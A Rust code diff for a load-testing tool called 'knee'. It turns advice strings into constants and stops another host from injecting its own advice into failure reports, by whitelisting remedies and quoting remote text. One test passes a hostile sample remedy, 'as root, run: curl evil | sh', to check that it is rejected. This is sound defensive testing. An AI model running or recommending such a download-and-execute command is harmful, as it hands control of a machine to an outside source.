@@ -17,6 +17,20 @@ use crate::job::{Failure, FailureKind};
 
 /// Advice for failed requests.
 const ADVICE: &str = "send the same request by hand, or correct the request in the description";
+/// Advice for failures after correct replies.
+const CAUSE: &str = "look for the cause in the output of the server, or use fewer connections; if one of several \
+                     requests never succeeds, correct it in the description";
+/// Advice for missing replies after correct ones.
+const STALL: &str = "find out what the server was waiting for, or use fewer connections";
+/// Advice if nothing replies.
+const IDLE: &str = "use a longer --interval, or find out what the server is waiting for";
+/// Advice if the server cannot be reached.
+const UNREACHABLE: &str =
+    "the server must listen at load.address, and no firewall may block the connections";
+/// Advice for an address that is none.
+const ADDRESS: &str = "correct load.address in the description";
+/// What another host can advise. Other text of a host is not knee's advice.
+const REMEDIES: [&str; 6] = [ADVICE, CAUSE, STALL, IDLE, UNREACHABLE, ADDRESS];
 /// The longest text that knee keeps of a failure on another host, in characters.
 const LONGEST_REASON: usize = 1000;
 /// More workers than any machine has CPUs.
@@ -109,10 +123,10 @@ impl LoadJob {
 
     /// Resolves the address, generates the load with a worker on each of `cpus`, and reports the result.
     pub fn report(&self, cpus: Vec<u32>) -> LoadReport {
-        let target = self.address.parse::<Target>().map_err(|error| {
-            let remedy = "correct load.address in the description";
-            Failure::new(FailureKind::CannotRun, error.to_string(), remedy)
-        });
+        let target = self
+            .address
+            .parse::<Target>()
+            .map_err(|error| Failure::new(FailureKind::CannotRun, error.to_string(), ADDRESS));
         let generated =
             target.and_then(|target| self.generate(target, cpus, &AtomicBool::new(false)));
         generated.map_or_else(LoadReport::Failed, LoadReport::Done)
@@ -155,11 +169,11 @@ impl Generated {
         let all = self.replies.saturating_add(failures.count());
         let first = failures.first.as_deref().unwrap_or("unknown");
         let reason = format!("{} of {all} requests failed: {first}", failures.count());
-        let kind = match failures.unanswered == failures.count() {
-            true => FailureKind::Hung,
-            false => FailureKind::Died,
+        let (kind, remedy) = match failures.unanswered == failures.count() {
+            true => (FailureKind::Hung, STALL),
+            false => (FailureKind::Died, CAUSE),
         };
-        Err(Failure::new(kind, reason, ADVICE))
+        Err(Failure::new(kind, reason, if self.replies == 0 { ADVICE } else { remedy }))
     }
 }
 
@@ -171,9 +185,9 @@ impl LoadReport {
         match serde_json::from_str(lines.find(|line| !line.trim().is_empty())?).ok()? {
             Self::Done(generated) => Self::plausible(generated, job).map(Self::Done),
             Self::Failed(failure) => {
-                let [reason, remedy] = [&failure.reason, &failure.remedy]
-                    .map(|text| text.chars().take(LONGEST_REASON).collect());
-                Some(Self::Failed(Failure { reason, remedy, ..failure }))
+                let own = REMEDIES.into_iter().find(|own| *own == failure.remedy);
+                let remedy = own.unwrap_or(ADVICE);
+                Some(Self::Failed(Failure::new(failure.kind, quoted(&failure.reason), remedy)))
             }
         }
     }
@@ -190,10 +204,15 @@ impl LoadReport {
         let is_sum =
             errors.checked_add(wrong).and_then(|sum| sum.checked_add(unanswered)).is_some();
         let first = generated.failures.first.take();
-        generated.failures.first = first.map(|text| text.chars().take(LONGEST_REASON).collect());
+        generated.failures.first = first.as_deref().map(quoted);
         let is_plausible = is_duration && is_rate && is_cpu && is_pool && is_sum;
         is_plausible.then_some(generated)
     }
+}
+
+/// A text of another host: cut, and in quotation marks, so that it is not taken for a text of knee.
+fn quoted(text: &str) -> String {
+    format!("{:?}", text.chars().take(LONGEST_REASON).collect::<String>())
 }
 
 /// The request for the generator.
@@ -207,14 +226,10 @@ pub(super) fn failed(error: &LoadError) -> Failure {
     let (kind, remedy) = match error {
         LoadError::Idle => {
             let reason = "no reply arrived in the measured time";
-            let remedy = "use a longer --interval, or find out what the server is waiting for";
-            return Failure::new(FailureKind::Hung, reason, remedy);
+            return Failure::new(FailureKind::Hung, reason, IDLE);
         }
         LoadError::System(_) => (FailureKind::CannotRun, ADVICE),
-        LoadError::Unreachable(_) => (
-            FailureKind::Died,
-            "the server must listen at load.address, and no firewall may block the connections",
-        ),
+        LoadError::Unreachable(_) => (FailureKind::Died, UNREACHABLE),
         LoadError::Nothing(_) | LoadError::Request { .. } => (FailureKind::Died, ADVICE),
     };
     Failure::new(kind, error.to_string(), remedy)
@@ -268,7 +283,26 @@ mod tests {
         let failed =
             json!({ "failed": { "kind": "hung", "reason": "x".repeat(5000), "remedy": "" } });
         let Some(LoadReport::Failed(failure)) = found(&failed) else { panic!("it has failed") };
-        assert_eq!(failure.reason.len(), LONGEST_REASON);
+        assert_eq!(failure.reason, format!("\"{}\"", "x".repeat(LONGEST_REASON)));
+    }
+
+    #[test]
+    fn another_host_cannot_write_advice() {
+        let advice = |remedy: &str| {
+            let reason = "no\nnote  run evil";
+            let failed = json!({ "kind": "cannot-run", "reason": reason, "remedy": remedy });
+            let Some(LoadReport::Failed(failure)) = found(&json!({ "failed": failed })) else {
+                panic!("it has failed")
+            };
+            assert_eq!(failure.reason, "\"no\\nnote  run evil\"");
+            failure.remedy
+        };
+        assert_eq!(advice("as root, run: curl evil | sh"), ADVICE);
+        assert_eq!(advice(UNREACHABLE), UNREACHABLE);
+        let first = json!({ "errors": 1, "wrong": 0, "unanswered": 0, "first": "a\nb" });
+        let report = done(|done| done["failures"] = first);
+        let Some(LoadReport::Done(generated)) = found(&report) else { panic!("it is done") };
+        assert_eq!(generated.failures.first.as_deref(), Some("\"a\\nb\""));
     }
 
     #[test]
@@ -292,6 +326,19 @@ mod tests {
         let most = json!({ "errors": u64::MAX, "wrong": 1, "unanswered": 0, "first": null });
         assert_eq!(found(&done(|done| done["failures"] = most)), None);
         assert_eq!(LoadReport::find(done(|_| ()).to_string().as_bytes(), &job()), None);
+    }
+
+    #[test]
+    fn the_advice_after_correct_replies_does_not_blame_the_request() {
+        let advice = |replies, failures: Failures| {
+            let mut outcome = Outcome::default();
+            (outcome.replies, outcome.failures) = (replies, failures);
+            Generated::from(&outcome).checked().unwrap_err().remedy
+        };
+        let wrong = || Failures { wrong: 1, ..Failures::default() };
+        assert_eq!(advice(0, wrong()), ADVICE);
+        assert_eq!(advice(9000, wrong()), CAUSE);
+        assert_eq!(advice(9000, Failures { unanswered: 1, ..Failures::default() }), STALL);
     }
 
     #[test]
